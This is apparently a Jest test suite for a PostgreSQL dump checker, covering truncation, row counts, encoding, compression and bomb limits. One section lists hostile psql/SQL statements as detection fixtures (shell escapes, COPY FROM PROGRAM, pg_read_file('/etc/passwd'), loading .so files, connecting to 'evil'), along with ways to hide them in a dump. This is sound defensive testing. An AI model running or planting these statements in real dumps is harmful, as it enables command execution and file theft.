import { gzipSync, zstdCompressSync } from "node:zlib";
import { describe, expect, test } from "@jest/globals";
import { examine, fileOf, verdicts } from "./fixture.ts";

const plain = fileOf("15/plain.sql").toString("utf8");

function without(pattern: RegExp): string {
  const changed = plain.replace(pattern, "");
  if (changed === plain) throw new Error(`${pattern} is not in the dump`);
  return changed;
}

function withStatement(text: string): string {
  return plain.replace("SET row_security = off;\n", (line) => `${line}${text}\n`);
}

const cutAt = (mark: string, more = 0) => plain.slice(0, plain.indexOf(mark) + more);

test.each([15, 17])("a dump of pg_dump %i is clean, and its rows are counted", async (major) => {
  const examination = await examine(fileOf(`${major}/plain.sql`));
  expect(verdicts(examination)).toEqual([]);
  expect(Object.fromEntries(examination.rows)).toEqual({
    "public.customer": 20,
    "public.empty": 0,
    "public.item": 30,
  });
  expect(examination.server).toMatch(new RegExp(`^${major}\\.`));
  expect(examination.sha256).toMatch(/^[0-9a-f]{64}$/);
});

describe("a fault in a plain dump", () => {
  const lines = plain.split("\n");
  const firstRow = lines.findIndex((line) => line.startsWith("COPY public.item")) + 1;
  test.each<[string, string | Buffer, string[]]>([
    [
      "cut among the rows, at the end of one",
      `${lines.slice(0, firstRow + 4).join("\n")}\n`,
      ["damage end-marker", "doubt structure"],
    ],
    ["cut within a row", cutAt("COPY public.item", 150), ["damage end-marker", "doubt structure"]],
    ["cut within a function", cutAt("$$ BEGIN", 12), ["damage end-marker"]],
    [
      "cut between two statements",
      cutAt("CREATE VIEW"),
      ["damage end-marker", "damage structure", "doubt structure"],
    ],
    ["no end marker", without(/^-- PostgreSQL database dump complete$/m), ["damage end-marker"]],
    ["the last line gone", without(/\\unrestrict .*\n/), ["damage end-marker"]],
    [
      "a key changed",
      plain.replace(/(\\unrestrict .{5})./, "$1_"),
      ["damage end-marker", "damage structure", "doubt hostile"],
    ],
    [
      "no beginning",
      plain.slice(plain.indexOf("-- Name: customer; Type: TABLE")),
      ["damage structure"],
    ],
    ["twice", plain + plain, ["damage structure"]],
    ["a statement behind the end", `${plain}DROP TABLE item;\n`, ["damage structure"]],
    ["a block of rows gone", without(/^COPY public\.item[\s\S]*?^\\\.$/m), ["damage structure"]],
    [
      "a table without rows",
      without(/^-- Data for Name: item[\s\S]*?^\\\.$/m),
      ["doubt structure"],
    ],
    [
      "a table's CREATE gone",
      without(/^CREATE TABLE public\.item[\s\S]*?;$/m),
      ["damage structure"],
    ],
    [
      "a sequence that is not set",
      without(/^-- Name: customer_id_seq; Type: SEQUENCE SET[\s\S]*?setval.*$/m),
      ["doubt structure"],
    ],
    ["a row with a column more", plain.replace(/^5\t.*$/m, "$&\textra"), ["damage rows"]],
    ["a row broken in two", plain.replace("\tok\t", "\n"), ["damage rows"]],
    ["two rows made one", plain.replace(/^(5\t.*)\n/m, "$1"), ["damage rows"]],
    [
      "a column renamed",
      plain.replace("(id, customer, note)", "(id, customer, mote)"),
      ["damage structure"],
    ],
    ["the end of rows gone", without(/^\\\.\n/m), ["damage rows", "doubt structure"]],
    ["a command damaged", plain.replace("CREATE VIEW", "CRUATE VIEW"), ["damage structure"]],
    [
      "a name damaged",
      plain.replace("CREATE TABLE public.item", "CREATE TABLE public.ytem"),
      ["damage structure", "doubt structure"],
    ],
    [
      "a string left open",
      plain.replace("'public.item_id_seq', 30", "public.item_id_seq', 30"),
      ["damage end-marker", "damage structure", "doubt hostile", "doubt structure"],
    ],
    ["converted to CR LF", plain.replaceAll("\n", "\r\n"), ["damage line-ends"]],
    ["converted to LATIN1", Buffer.from(plain.replaceAll("€", "e"), "latin1"), ["damage encoding"]],
    ["a zero byte", plain.replace("n13", "n\x0013"), ["damage encoding"]],
    [
      "UTF-8 in a dump of LATIN1",
      plain.replace("client_encoding = 'UTF8'", "client_encoding = 'LATIN1'"),
      ["doubt encoding"],
    ],
    ["in UTF-16", Buffer.from(`\ufeff${plain}`, "utf16le"), ["damage format"]],
    ["data behind indexes", plain.replace("Type: VIEW;", "Type: INDEX;"), ["doubt structure"]],
    [
      "the structure alone",
      without(
        /^-- Data for Name: customer; Type: TABLE DATA[\s\S]*(?=^-- Name: customer customer_pkey)/m,
      ),
      ["doubt structure"],
    ],
  ])("is found: %s", async (_name, dump, expected) => {
    expect(verdicts(await examine(dump))).toEqual(expected);
  });

  test("is told with its line, what was expected and what is there", async () => {
    const dump = plain.replace(/^5\t.*$/m, "$&\textra");
    const line = dump.slice(0, dump.indexOf("\textra")).split("\n").length;
    const { findings } = await examine(dump);
    expect(findings).toContainEqual(
      expect.objectContaining({
        subject: `dump.sql line ${line}`,
        what: "1 of the 20 rows of public.customer do not have as many fields as its COPY has columns.",
        expected: "4 fields",
        found: "5 fields",
      }),
    );
  });
});

describe("what does no harm in a plain dump is not held against it", () => {
  test.each<[string, string | Buffer]>([
    ["a byte order mark", `\ufeff${plain}`],
    [
      "comments of the verbose kind",
      plain.replace(
        "-- Name: customer;",
        "-- TOC entry 215 (class 1259 OID 16389)\n-- Name: customer;",
      ),
    ],
    ["another order of rows", plain.replace(/^(1\t.*\n)(2\t.*\n)/m, "$2$1")],
    ["another owner", plain.replaceAll("Owner: postgres", "Owner: other")],
    ["carriage returns in a function", plain.replace("BEGIN RETURN", "BEGIN\r\n RETURN")],
    [
      "words in a comment on a table",
      withStatement("COMMENT ON TABLE public.item IS 'calls pg_read_file; \\! DO $$';"),
    ],
    ["a column's name with all signs", plain.replaceAll("Odd; Name", "Odd; \\! ' $$$$ -- /* Name")],
    ["empty lines at the end", `${plain}\n\n`],
    [
      "a function in two dollars in a dollar",
      withStatement(
        "CREATE FUNCTION public.g() RETURNS text LANGUAGE sql AS $a$ select $b$ ; \\! $b$ $a$;",
      ),
    ],
    [
      "a function with a body of SQL",
      withStatement(
        "CREATE FUNCTION public.h(x int) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN x > 1 THEN 2 END; SELECT 1; END;",
      ),
    ],
    ["nested comments", withStatement("/* a /* ; ' */ \\! */")],
    ["escapes in strings", withStatement("COMMENT ON VIEW public.v IS E'it\\'s; \\\\! ';")],
  ])("%s", async (_name, dump) => {
    expect(verdicts(await examine(dump))).toEqual([]);
  });
});

describe("hostile statements are told, each with its line", () => {
  const line = plain.slice(0, plain.indexOf("SET row_security")).split("\n").length + 1;
  test.each([
    ["\\! touch /tmp/x"],
    ["\\i /etc/passwd"],
    ["\\copy public.item from program 'id'"],
    ["SELECT 1 \\g |sh"],
    ["SELECT 'drop table x' \\gexec"],
    ["\\o |sh"],
    ['\\connect "host=evil dbname=x"'],
    ["\\connect postgres://evil/x"],
    ["\\unknown"],
    ["COPY public.item FROM PROGRAM 'id';"],
    ["COPY public.item TO PROGRAM 'sh';"],
    ["COPY public.item FROM '/etc/passwd';"],
    ["COPY public.item TO '/tmp/x';"],
    ["ALTER SYSTEM SET archive_command = 'x';"],
    ["DO $$ BEGIN PERFORM 1; END $$;"],
    ["SELECT lo_import('/etc/passwd');"],
    ["SELECT pg_read_file('/etc/passwd');"],
    ["INSERT INTO public.item (note) SELECT pg_read_file('/etc/passwd');"],
    ["LOAD '/tmp/x.so';"],
    ["CREATE FUNCTION public.x() RETURNS int LANGUAGE plpython3u AS $$ import os $$;"],
    ["CREATE FUNCTION public.x() RETURNS int LANGUAGE 'plpython3u' AS 'import os';"],
    ["CREATE FUNCTION public.x() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'x';"],
    ["SELECT :LAST_ERROR_MESSAGE;"],
    ["SELECT :'DBNAME';"],
  ])("%s", async (statement) => {
    const { findings } = await examine(withStatement(statement));
    expect(findings.filter(({ weight }) => weight === "doubt")).toEqual([
      expect.objectContaining({ detector: "hostile", subject: `dump.sql line ${line}` }),
    ]);
  });

  test.each([
    [
      "behind the semicolon of a COPY, where psql runs it after the rows",
      "COPY public.item (id, customer, note) FROM stdin; \\! id\n\\.",
    ],
    ["behind a COPY that only psql understands", 'COPY U&"x" FROM stdin;\na\'b\n\\.\n\\! id'],
    [
      "behind a function called begin, which psql takes for a body",
      "CREATE FUNCTION public.begin() RETURNS int LANGUAGE sql AS 'select 1'; \\! id",
    ],
  ])("what hides %s", async (_name, text) => {
    expect(verdicts(await examine(withStatement(text)))).toContain("doubt hostile");
  });

  test("what pg_dump itself writes needs trust, and is a note", async () => {
    const { findings } = await examine(
      withStatement(
        "CREATE EXTENSION postgis WITH SCHEMA public;\nCREATE FUNCTION public.x() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1';",
      ),
    );
    expect(findings.map(({ weight, detector }) => `${weight} ${detector}`)).toEqual([
      "note hostile",
      "note hostile",
    ]);
  });
});

describe("rows against a fingerprint", () => {
  const rows = new Map([
    ["public.customer", 20],
    ["public.empty", 0],
    ["public.item", 30],
  ]);
  const excluded = new Set<string>();

  test("the same rows are clean, and make items", async () => {
    const examination = await examine(plain, { expected: { rows, excluded } });
    expect(verdicts(examination)).toEqual([]);
    expect(examination.items).toContainEqual({
      name: "public.item",
      expected: 30,
      found: 30,
      same: undefined,
    });
  });

  test("rows that are gone from the text are found without restoring it", async () => {
    const { findings } = await examine(plain.replace(/^7\t.*\n/m, ""), {
      expected: { rows, excluded },
    });
    expect(findings).toEqual([
      expect.objectContaining({
        detector: "rows",
        weight: "damage",
        subject: "table public.customer",
        expected: "20 rows",
        found: "19 rows",
      }),
    ]);
  });

  test("tables whose rows were left out by intent do not count", async () => {
    const less = plain.replace(/^-- Data for Name: item[\s\S]*?^\\\.$/m, "");
    const examination = await examine(less, {
      expected: { rows: new Map([...rows].slice(0, 2)), excluded: new Set(["public.item"]) },
    });
    expect(verdicts(examination)).toEqual([]);
    const unexpected = await examine(less, { expected: { rows, excluded } });
    expect(verdicts(unexpected)).toEqual(["damage rows", "doubt structure"]);
  });

  test("a table has one name, be it quoted or not", async () => {
    const named = plain
      .replaceAll("public.item ", 'public."order" ')
      .replaceAll("Name: item;", "Name: order;");
    const quoted = new Map([
      ["public.customer", 20],
      ["public.empty", 0],
      ['public."order"', 30],
    ]);
    const examination = await examine(named, { expected: { rows: quoted, excluded } });
    expect(examination.findings).toEqual([]);
    expect(examination.items).toContainEqual(
      expect.objectContaining({ name: 'public."order"', expected: 30, found: 30 }),
    );
  });
});

describe("INSERT dumps", () => {
  const inserts = plain.replace(
    /^COPY (\S+) \((.*)\) FROM stdin;\n([\s\S]*?)\\\.$/gm,
    (_, table, columns, rows: string) =>
      rows
        .split("\n")
        .filter((row) => row !== "")
        .map(
          (row) =>
            `INSERT INTO ${table} (${columns}) VALUES (${row
              .split("\t")
              .map((value) => `'${value.replaceAll("'", "''")}'`)
              .join(", ")});`,
        )
        .join("\n"),
  );

  test("are clean, and their rows are counted", async () => {
    const examination = await examine(inserts);
    expect(verdicts(examination)).toEqual([]);
    expect(examination.rows.get("public.item")).toBe(30);
  });
});

describe("a dump of a whole server", () => {
  const cluster = [
    "--\n-- PostgreSQL database cluster dump\n--\n\nSET client_encoding = 'UTF8';\nCREATE ROLE app;\n",
    "\\connect template1\n\n",
    plain,
    "\\connect shop\n\n",
    plain,
    "--\n-- PostgreSQL database cluster dump complete\n--\n",
  ].join("");

  test("is clean, and tables are told apart by their database", async () => {
    const examination = await examine(cluster);
    expect(examination.recognised.format).toBe("pg-plain-cluster");
    expect(verdicts(examination)).toEqual([]);
    expect(examination.rows.get("shop: public.item")).toBe(30);
  });

  test("that lacks its end is cut short, though each of its databases is whole", async () => {
    const cut = cluster.slice(
      0,
      cluster.indexOf("--\n-- PostgreSQL database cluster dump complete"),
    );
    expect(verdicts(await examine(cut))).toEqual(["damage end-marker"]);
  });
});

describe("compressed", () => {
  const gz = gzipSync(plain);
  const halves = [gzipSync(plain.slice(0, 3000)), gzipSync(plain.slice(3000))];
  const flipped = (bytes: Buffer, at: number) => {
    const changed = Buffer.from(bytes);
    changed[at] = (changed[at] ?? 0) ^ 4;
    return changed;
  };
  test.each<[string, Buffer, string[]]>([
    ["gzip", gz, []],
    ["zstd", zstdCompressSync(plain), []],
    ["gzip in gzip", gzipSync(gz), []],
    ["two members of gzip", Buffer.concat(halves), []],
    [
      "two frames of zstd",
      Buffer.concat([zstdCompressSync(plain.slice(0, 99)), zstdCompressSync(plain.slice(99))]),
      [],
    ],
    ["zeros behind gzip, as tapes add", Buffer.concat([gz, Buffer.alloc(512)]), []],
    ["garbage behind gzip", Buffer.concat([gz, Buffer.from("garbage")]), ["damage compression"]],
    [
      "garbage behind zstd",
      Buffer.concat([zstdCompressSync(plain), Buffer.from("garbage")]),
      ["damage compression"],
    ],
    ["gzip without its last bytes", gz.subarray(0, -3), ["damage compression"]],
    ["gzip with a wrong checksum", flipped(gz, gz.length - 8), ["damage checksum"]],
    ["gzip with a wrong length", flipped(gz, gz.length - 4), ["damage checksum"]],
    ["nothing", Buffer.alloc(0), ["damage format"]],
    ["gzip of nothing", gzipSync(""), ["damage format"]],
  ])("%s", async (_name, bytes, expected) => {
    expect(verdicts(await examine(bytes))).toEqual(expected);
  });

  test("what is cut in the middle says where, and how far it could be read", async () => {
    const { findings } = await examine(gz.subarray(0, 1000));
    expect(findings[0]).toMatchObject({
      detector: "compression",
      what: expect.stringMatching(
        /^It is cut short: its gzip data ends at offset 1000 in the middle, after \d+ unpacked bytes\.$/,
      ),
    });
  });

  test("a bomb is left after its limits, and told", async () => {
    const limits = { ratioFrom: 1_000_000, ratio: 100 };
    const bomb = gzipSync(Buffer.concat([Buffer.from(plain), Buffer.alloc(50_000_000, "\n")]));
    const examination = await examine(bomb, { limits });
    expect(verdicts(examination)).toEqual(["doubt bomb"]);
    expect(examination.plainBytes).toBeLessThan(5_000_000);
  });
});

test("rows without the tables that they belong to are told as such", async () => {
  const rows = plain.slice(
    plain.indexOf("--\n-- Data for Name:"),
    plain.indexOf("; Type: CONSTRAINT"),
  );
  const head = plain
    .slice(0, plain.indexOf("SET statement_timeout"))
    .replace(/^\\restrict.*\n/m, "");
  const only = `${head}${rows.slice(0, rows.lastIndexOf("\n--\n"))}\n--\n-- PostgreSQL database dump complete\n--\n\n`;
  const { findings } = await examine(Buffer.from(only));
  expect(findings.map(({ what }) => what).join()).toContain("the structure of none");
});

test("names with line ends and quotes are those of their headers", async () => {
  const before = plain.slice(0, plain.indexOf("-- PostgreSQL database dump complete") - 3);
  const odd = `${before.replace(/^\\restrict.*\n/m, "")}
--
-- Name: two lines; Type: TABLE; Schema: public; Owner: postgres
--

CREATE TABLE public."two
lines" (
    id integer
);

--
-- Name: it's; Type: SEQUENCE; Schema: public; Owner: postgres
--

CREATE SEQUENCE public."it's";

--
-- Data for Name: two lines; Type: TABLE DATA; Schema: public; Owner: postgres
--

COPY public."two
lines" (id) FROM stdin;
1
2
\\.

--
-- Name: it's; Type: SEQUENCE SET; Schema: public; Owner: postgres
--

SELECT pg_catalog.setval('public."it''s"', 1, false);

--
-- PostgreSQL database dump complete
--

`;
  // What belongs before the rows comes behind indexes here, which is told.
  const { findings, rows } = await examine(Buffer.from(odd));
  expect(
    findings.filter(({ what }) => !what.includes("comes after")).map(({ what }) => what),
  ).toEqual([]);
  expect(rows.get('public."two\nlines"')).toBe(2);
});
